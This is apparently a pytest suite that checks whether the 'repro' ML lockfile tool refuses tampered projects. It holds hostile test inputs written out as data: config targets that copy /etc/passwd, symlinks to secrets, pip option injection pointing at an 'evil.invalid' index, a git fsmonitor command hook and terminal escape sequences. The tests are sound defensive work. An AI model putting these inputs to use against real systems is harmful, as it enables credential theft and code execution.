# ruff: noqa: F811  (pytest fixtures imported from hostile_helpers are parameters here)
"""One test per attack of issue 14's table (rows 1-13), plus the two cases "also seen".

Each runs `repro` in-process on a tampered copy of a real trained project and
asserts the exit code, that the message names the file (or config key) at
fault, and, through `guard`, that nothing outside the project root was read or
written and that nothing was imported from the tampered tree.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hostile_helpers import SECRET, Guard, edit, guard, lock_of, no_hang, project, trained, write_lock  # noqa: F401
from signing_keys import make_keypair

from repro.canonical import canonical_json
from repro.errors import CheckpointError
from repro.train import checkpoint


def lock_path(project: Path) -> str:
    return str(project / "out" / "repro.lock")


# 1 ------------------------------------------------------------------------------------------
def test_01_inputs_only_never_imports_a_preprocess_package(project: Path, guard: Guard) -> None:
    marker = guard.outside / "imported"
    pkg = project / "evilpkg"
    pkg.mkdir()
    (pkg / "__init__.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    (pkg / "sub.py").write_text("def fn(ds):\n    return ds\n")
    edit(project, lambda lk: lk["inputs"]["config"]["resolved"]["data"].update(
        preprocess={"_target_": "evilpkg.sub.fn"}))
    r = guard.run("verify", "--inputs-only", "--quiet", lock_path(project))
    assert r.code == 1 and "preprocess" in r.out and "repro.lock" in r.out
    assert not marker.exists() and "evilpkg" not in sys.modules


# 2 ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("position", "node"), [
    ("task.data", {"_target_": "numpy.load", "file": {"_target_": "io.BytesIO", "initial_bytes": "x"},
                   "allow_pickle": True}),
    ("model.init", {"_target_": "shutil.copyfile", "src": "/etc/passwd", "dst": "stolen"}),
    ("data.preprocess", {"_target_": "pathlib.Path.write_text"}),
    # Under a library prefix, but a function reached through it, not a torch.nn class: the
    # gate refuses it before anything from the lock runs.
    ("model.init", {"_target_": "torch.nn.functional.torch.save", "obj": 1, "f": "stolen"}),
])
def test_02_a_rebuild_lists_and_refuses_untrusted_targets(project: Path, guard: Guard, position: str,
                                                          node: dict[str, object]) -> None:
    group, key = position.split(".")
    edit(project, lambda lk: lk["inputs"]["config"]["resolved"][group].update({key: node}))
    r = guard.run("verify", "--quiet", "--rebuild-anyway", lock_path(project))
    assert r.code == 2, r.text
    assert f"{position}._target_ = {node['_target_']}" in r.err and "--trust-code" in r.err
    assert not (project / "stolen").exists() and "rebuild " not in r.out


def test_02_verify_defers_library_classes_to_the_child_and_never_imports_torch(project: Path) -> None:
    """The gate judges everything else in verify's own process, without importing torch."""
    script = ("import json, pathlib, sys; from repro.builder import gate; from repro.lock import lockfile; "
              f"lock, _ = lockfile.load({lock_path(project)!r}); "
              f"reviewed = gate.check(lock, pathlib.Path({str(project)!r}), False, defer_libraries=True); "
              "print(json.dumps([[t.target, t.trusted, t.deferred] for t in reviewed], sort_keys=True)); "
              "print('torch' in sys.modules)")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env, check=True,
                         cwd=project).stdout.splitlines()
    assert sorted(json.loads(out[0])) == [["repro.models.MLP", True, False],
                                          ["repro.tasks.Classification", True, False],
                                          ["torch.optim.Adam", False, True]]
    assert out[1] == "False"


# 3 ------------------------------------------------------------------------------------------
def test_03_the_root_never_climbs_above_the_lock_outside_git(project: Path, guard: Guard) -> None:
    lock = lock_of(project)
    lock["inputs"]["data"]["files"][0]["path"] = "etc/passwd"
    lock["inputs"]["config"]["resolved"]["data"]["data_files"] = ["etc/passwd"]
    stray = write_lock(guard.outside / "deep" / "release" / "repro.lock", lock)
    before = os.path.lexists("/.repro")
    r = guard.run("verify", "--inputs-only", "--quiet", str(stray))
    assert r.code == 2 and str(stray) in r.err and "pass --root" in r.err
    assert not (guard.outside / ".repro").exists() and os.path.lexists("/.repro") == before
    (guard.outside / "deep" / "release" / "repro.lock").unlink()  # the guard's snapshot predates it
    (guard.outside / "deep" / "release").rmdir()
    (guard.outside / "deep").rmdir()


# 4 ------------------------------------------------------------------------------------------
def test_04a_a_linked_cache_folder_is_refused(project: Path, guard: Guard) -> None:
    victim = guard.outside / "victim"
    victim.mkdir()
    (victim / "hashcache.sqlite").write_bytes(b"not a database: would be deleted as corrupt")
    shutil.rmtree(project / ".repro", ignore_errors=True)
    os.symlink(victim, project / ".repro")
    r = guard.run("verify", "--inputs-only", "--quiet", lock_path(project))
    assert r.code == 2 and ".repro" in r.err and "symbolic link" in r.err
    assert (victim / "hashcache.sqlite").read_bytes().startswith(b"not a database")


def test_04b_a_linked_cache_database_is_refused(project: Path, guard: Guard) -> None:
    (project / ".repro").mkdir(exist_ok=True)
    db = project / ".repro" / "hashcache.sqlite"
    db.unlink(missing_ok=True)
    os.symlink(guard.outside / "victim.sqlite", db)
    r = guard.run("verify", "--inputs-only", "--quiet", lock_path(project))
    assert r.code == 2 and "hashcache.sqlite" in r.err and "symbolic link" in r.err


# 5 ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", ["dev-zero", "fifo"])
@pytest.mark.parametrize("which", ["repro.lock", "run.json"])
def test_05_a_lock_or_run_json_that_is_a_device_or_fifo(project: Path, guard: Guard, kind: str, which: str) -> None:
    target = project / "out" / which
    target.unlink()
    if kind == "fifo":
        os.mkfifo(target)
    else:
        os.symlink("/dev/zero", target)
    r = guard.run("verify", "--inputs-only", "--quiet", lock_path(project))
    assert r.code == 2 and which in r.err
    assert "not a regular file" in r.err or "symbolic link" in r.err


# 6 ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", [checkpoint.MANIFEST_NAME, checkpoint.MODEL_NAME, checkpoint.STATE_NAME])
@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "etc-passwd"])
def test_06_checkpoint_files_that_are_links_devices_or_fifos(project: Path, guard: Guard, name: str,
                                                            kind: str) -> None:
    state = canonical_json({"version": 1, "step": 1})
    folder = checkpoint.write(project / "out" / "checkpoints", 1, {
        checkpoint.MODEL_NAME: checkpoint.bytes_writer(b"m"), checkpoint.OPTIMIZER_NAME: checkpoint.bytes_writer(b"o"),
        checkpoint.STATE_NAME: checkpoint.bytes_writer(state)})
    (folder / name).unlink()
    if kind == "fifo":
        os.mkfifo(folder / name)
    else:
        os.symlink("/dev/zero" if kind == "dev-zero" else guard.secret, folder / name)
    with pytest.raises(CheckpointError) as caught:
        checkpoint.read(folder)
    message = str(caught.value)
    assert caught.value.exit_code == 2 and name in message
    assert str(len(SECRET)) not in message and "the sentinel" not in message
    found, skipped = checkpoint.newest_valid(project / "out" / "checkpoints")
    assert found is None and name in skipped[0]


# 7 ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(("tamper", "needle"), [
    (lambda raw: raw.replace(b"{", b'{"deep": ' + b"[" * 5000 + b"]" * 5000 + b",", 1), "nested"),
    (lambda raw: raw.replace(b'"seed": 0', b'"seed": ' + b"9" * 4400, 1), "digits"),
    (lambda raw: raw.replace(b'"final_loss": ', b'"final_loss": NaN, "x": ', 1), "NaN is not JSON"),
    (lambda raw: raw.replace(b'"final_loss": ', b'"final_loss": 1e999, "x": ', 1), "infinity"),
])
def test_07_malformed_json_is_refused_naming_the_lock(project: Path, guard: Guard, tamper: object,
                                                      needle: str) -> None:
    path = project / "out" / "repro.lock"
    path.write_bytes(tamper(path.read_bytes()))  # type: ignore[operator]
    for argv in (["verify", "--inputs-only", "--quiet", str(path)], ["diff", str(path), str(path)],
                 ["audit", str(path)]):
        r = guard.run(*argv)
        assert r.code == 2 and str(path) in r.err and needle in r.err, (argv, r.err)


def test_07_a_null_build_group_is_an_input_error(project: Path, guard: Guard) -> None:
    path = edit(project, lambda lk: lk["inputs"]["config"]["resolved"].update(build=None))
    r = guard.run("verify", "--inputs-only", "--quiet", str(path))
    assert r.code == 2 and str(path) in r.err and "build" in r.err


# 8 ------------------------------------------------------------------------------------------
def test_08_duplicate_keys_are_refused(project: Path, guard: Guard) -> None:
    path = project / "out" / "repro.lock"
    path.write_bytes(path.read_bytes().replace(b'  "build": {', b'  "build": 5,\n  "build": {', 1))
    for argv in (["verify", "--inputs-only", "--quiet", str(path)], ["diff", str(path), str(path)],
                 ["audit", str(path)]):
        r = guard.run(*argv)
        assert r.code == 2 and str(path) in r.err and "duplicate key 'build'" in r.err


# 9 ------------------------------------------------------------------------------------------
def test_09_control_characters_are_escaped_in_every_report(project: Path, guard: Guard) -> None:
    evil = "data/x.csv\r\x1b[2Kidentical: nothing to see\x1b[8m"
    other = project / "out" / "other.lock"
    lock = lock_of(project)
    lock["inputs"]["data"]["files"][0]["path"] = evil
    write_lock(other, lock)
    r = guard.run("diff", lock_path(project), str(other))
    assert r.code == 1 and "\r" not in r.out and "\x1b" not in r.out
    assert "\\r\\x1b[2Kidentical" in r.out
    r = guard.run("verify", "--inputs-only", "--quiet", str(other))
    assert r.code in (1, 2) and "\x1b" not in r.text and "\r" not in r.text


# 10 -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("tokenizer", [None, "../outside/etc/passwd"])
def test_10_a_tokenizer_outside_the_project_is_refused(project: Path, guard: Guard, tokenizer: str | None) -> None:
    where = tokenizer or str(guard.secret)
    path = edit(project, lambda lk: lk["inputs"]["config"]["resolved"]["task"].update(tokenizer=where))
    r = guard.run("verify", "--inputs-only", "--quiet", str(path))
    assert r.code == 2 and "task.tokenizer" in r.err and "escapes the project root" in r.err


def test_10_the_task_itself_refuses_it() -> None:
    pytest.importorskip("torch")
    from repro.errors import LockfileError
    from repro.tasks import CausalLM

    with pytest.raises(LockfileError, match="task.tokenizer"):
        CausalLM(tokenizer="/etc/passwd")


# 11 -----------------------------------------------------------------------------------------
def test_11_an_unsigned_record_is_only_self_reported(project: Path, guard: Guard, tmp_path: Path) -> None:
    from repro.trust.attestation import record_verification

    lock = project / "out" / "repro.lock"
    weights = json.loads(lock.read_text())["outputs"]["weights"]["hashes"]["sha256"]
    record_verification(project / "out" / "verification.json", hashlib.sha256(lock.read_bytes()).hexdigest(),
                        weights, True, {"by": "the author, trust me"})
    r = guard.run("audit", str(lock))
    assert r.code == 0
    line = next(ln for ln in r.out.splitlines() if ln.startswith("Reproducible"))
    assert "self-reported" in line and " yes " not in line and "verification.json" in r.out
    _, pub = make_keypair(tmp_path, "mine")
    r = guard.run("audit", str(lock), "--trusted-key", str(pub))
    line = next(ln for ln in r.out.splitlines() if ln.startswith("Reproducible"))
    assert line.split()[1] == "no"


# 12 -----------------------------------------------------------------------------------------
def test_12_an_oversized_lock_is_refused_before_reading(project: Path, guard: Guard) -> None:
    path = project / "out" / "repro.lock"
    with open(path, "r+b") as fh:
        fh.truncate(200 << 20)  # sparse: 200 MB that cost no disk
    for argv in (["verify", "--inputs-only", "--quiet", str(path)], ["diff", str(path), str(path)],
                 ["audit", str(path)]):
        r = guard.run(*argv)
        assert r.code == 2 and str(path) in r.err and "cap" in r.err


# 13 -----------------------------------------------------------------------------------------
@pytest.mark.parametrize(("key", "needle"), [("threads", "--allow-oversubscribe"), ("world_size", "cap")])
def test_13_absurd_thread_and_rank_counts_are_refused(project: Path, guard: Guard, key: str, needle: str) -> None:
    path = edit(project, lambda lk: lk["build"].update({key: 100000}))
    r = guard.run("verify", "--quiet", "--rebuild-anyway", str(path))
    assert r.code == 2 and f"build.{key}" in r.err and needle in r.err, r.err
    assert "rebuild " not in r.out


# Also seen ----------------------------------------------------------------------------------
def test_also_the_lock_is_read_once(project: Path, guard: Guard, monkeypatch: pytest.MonkeyPatch) -> None:
    """The digest in a verification record must describe the bytes that were checked: one open."""
    lock = lock_path(project)
    opened: list[str] = []
    real_open = os.open

    def counting_open(path: object, *args: object, **kwargs: object) -> int:
        if str(path) == lock:
            opened.append(str(path))
        return real_open(path, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", counting_open)
    r = guard.run("verify", "--inputs-only", "--quiet", lock)
    assert r.code in (0, 1) and len(opened) == 1


def test_also_weights_beside_a_lock_may_not_link_out(project: Path, guard: Guard) -> None:
    weights = project / "out" / "model.safetensors"
    weights.unlink()
    os.symlink(guard.secret, weights)
    r = guard.run("verify", "--quiet", str(project / "out" / "repro.lock"))
    assert r.code == 2 and "model.safetensors" in r.err and "symbolic link" in r.err


# Seen since: `--toolchain recreate` hands the lock's distribution names and versions to pip or uv.
@pytest.mark.parametrize(("name", "version"), [("-egit+https://evil.invalid/x#egg=x", "1"),
                                               ("numpy", "1 --index-url https://evil.invalid/simple"),
                                               ("numpy", "-1")])
def test_toolchain_names_cannot_become_installer_options(project: Path, guard: Guard, name: str,
                                                         version: str) -> None:
    path = edit(project, lambda lk: lk["toolchain"]["distributions"].update({name: version}))
    r = guard.run("verify", "--quiet", "--toolchain", "recreate", str(path))
    assert r.code == 2 and str(path) in r.err and "toolchain.distributions" in r.err, r.err


# Seen since: run.json's git provenance ran `git status`, which runs the repository's core.fsmonitor.
def test_git_provenance_never_runs_the_repositorys_commands(tmp_path: Path) -> None:
    import subprocess

    from repro.source.inputs import git_state

    repo, marker = tmp_path / "repo", tmp_path / "pwned"
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e.invalid", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@e.invalid", "GIT_CONFIG_GLOBAL": "/dev/null"}
    subprocess.run(["git", "init", "-q", str(repo)], check=True, env=env)
    (repo / "model.py").write_text("x = 1\n")
    subprocess.run(["git", "-C", str(repo), "add", "."], check=True, env=env)
    subprocess.run(["git", "-C", str(repo), "commit", "-qm", "c"], check=True, env=env)
    subprocess.run(["git", "-C", str(repo), "config", "core.fsmonitor", f"touch {marker}; false"], check=True)
    assert git_state(repo, ["model.py"])["dirty"] is False  # type: ignore[index]
    (repo / "model.py").write_text("x = 2\n")
    (repo / "new.py").write_text("")
    assert git_state(repo, ["model.py"])["dirty"] is True  # type: ignore[index]
    assert git_state(repo, ["new.py"])["dirty"] is True  # type: ignore[index]
    assert not marker.exists()


# Stretch: where the machine allows it, a rebuild runs with the network off and the project read-only.
def test_the_rebuild_sandbox_cuts_the_network_and_freezes_the_project(tmp_path: Path) -> None:
    import subprocess

    from repro.builder.sandbox import sandbox_for

    root, work = tmp_path / "project", tmp_path / "work"
    root.mkdir()
    work.mkdir()
    box = sandbox_for(root, work, world_size=1)
    several = sandbox_for(root, work, world_size=2)  # several ranks need loopback: only bubblewrap keeps it
    assert several.mechanism == "bubblewrap" or several.description.startswith("not sandboxed")
    assert not sandbox_for(root, work, 1, wanted=False).active
    if not box.active:
        pytest.skip(box.description)
    probe = ("import socket, pathlib, sys\n"
             f"pathlib.Path({str(work / 'ok')!r}).write_text('w')\n"
             f"try:\n    pathlib.Path({str(root / 'x')!r}).write_text('w'); print('project writable')\n"
             "except OSError: pass\n"
             "try:\n    socket.create_connection(('1.1.1.1', 80), timeout=2); print('network')\n"
             "except OSError: pass\n")
    out = subprocess.run([*box.prefix, sys.executable, "-c", probe], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert "network" not in out.stdout and (work / "ok").exists()
    if "read-only" in box.description:
        assert "project writable" not in out.stdout and not (root / "x").exists()


def test_09_a_newline_in_a_config_key_cannot_start_a_line(project: Path, guard: Guard) -> None:
    other = project / "out" / "other.lock"
    lock = lock_of(project)
    lock["inputs"]["config"]["resolved"]["trainer"]["x\nidentical: all is well"] = 1
    write_lock(other, lock)
    r = guard.run("diff", lock_path(project), str(other))
    assert r.code == 1 and not any(ln.startswith("identical") for ln in r.out.splitlines())
    assert "x\\nidentical: all is well" in r.out
